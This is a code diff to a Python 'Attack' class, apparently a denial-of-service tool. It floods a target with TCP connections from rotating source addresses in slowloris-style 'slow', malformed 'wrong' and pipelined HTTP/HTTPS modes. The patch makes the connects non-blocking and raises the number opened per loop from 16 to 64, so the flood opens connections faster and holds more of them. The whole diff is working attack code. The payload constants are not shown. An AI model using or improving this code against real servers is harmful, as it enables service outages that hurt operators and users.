@@ -34,6 +34,7 @@ class Attack:
         self.sources, self.count = sources, count
         self.sockets: dict[int, socket.socket] = {}
         self.poll = select.epoll()
+        self.connecting: set[int] = set()
         self.opened = self.refused = self.sent = 0
         self.answers = 0
         self.tls = ssl.create_default_context()
@@ -44,12 +45,17 @@ class Attack:
         connection = socket.socket(family, socket.SOCK_STREAM)
         try:
             connection.bind((self.sources[self.opened % len(self.sources)], 0))
-            connection.settimeout(2)
             if self.kind == "pipelined":
                 connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-            connection.connect(self.target)
             if self.kind == "pipelined" and self.listener == "https":
+                connection.settimeout(0.5)
+                connection.connect(self.target)
                 connection = self.tls.wrap_socket(connection)
+            else:
+                # Whoever is not heard goes on knocking, and does something else meanwhile.
+                connection.setblocking(False)
+                connection.connect_ex(self.target)
+                self.connecting.add(connection.fileno())
         except OSError:
             self.refused += 1
             connection.close()
@@ -57,6 +63,14 @@ class Attack:
         self.opened += 1
         connection.setblocking(False)
         self.sockets[connection.fileno()] = connection
+        if connection.fileno() in self.connecting:
+            self.poll.register(connection.fileno(), select.EPOLLOUT)
+        else:
+            self.begin(connection)
+        return True
+
+    def begin(self, connection: socket.socket) -> None:
+        """The connection is there: does what this attack does first."""
         interest = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR
         if self.kind == "pipelined":
             interest |= select.EPOLLOUT
@@ -65,13 +79,16 @@ class Attack:
             connection.send(WRONG)
         elif self.kind == "slow":
             connection.send(SLOW)
-        self.poll.register(connection.fileno(), interest)
-        return True
+        try:
+            self.poll.modify(connection.fileno(), interest)
+        except FileNotFoundError:
+            self.poll.register(connection.fileno(), interest)
 
     def close_one(self, number: int) -> None:
         connection = self.sockets.pop(number, None)
         if connection is None:
             return
+        self.connecting.discard(number)
         self.poll.unregister(number)
         connection.close()
 
@@ -79,6 +96,9 @@ class Attack:
         if events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
             return self.close_one(number)
         try:
+            if number in self.connecting:
+                self.connecting.discard(number)
+                return self.begin(self.sockets[number])
             if events & select.EPOLLOUT:
                 self.sent += self.sockets[number].send(PIPELINES[self.listener])
             if events & select.EPOLLIN:
@@ -95,7 +115,7 @@ class Attack:
         is_ready, begin = False, time.monotonic()
         # A host that opens all that it can, but leaves the processor to the others now and then.
         while not select.select([sys.stdin], [], [], 0)[0]:
-            for _ in range(16):
+            for _ in range(64):
                 if len(self.sockets) >= self.count or not self.open_one():
                     break
             for number, events in self.poll.poll(0.005, 256):
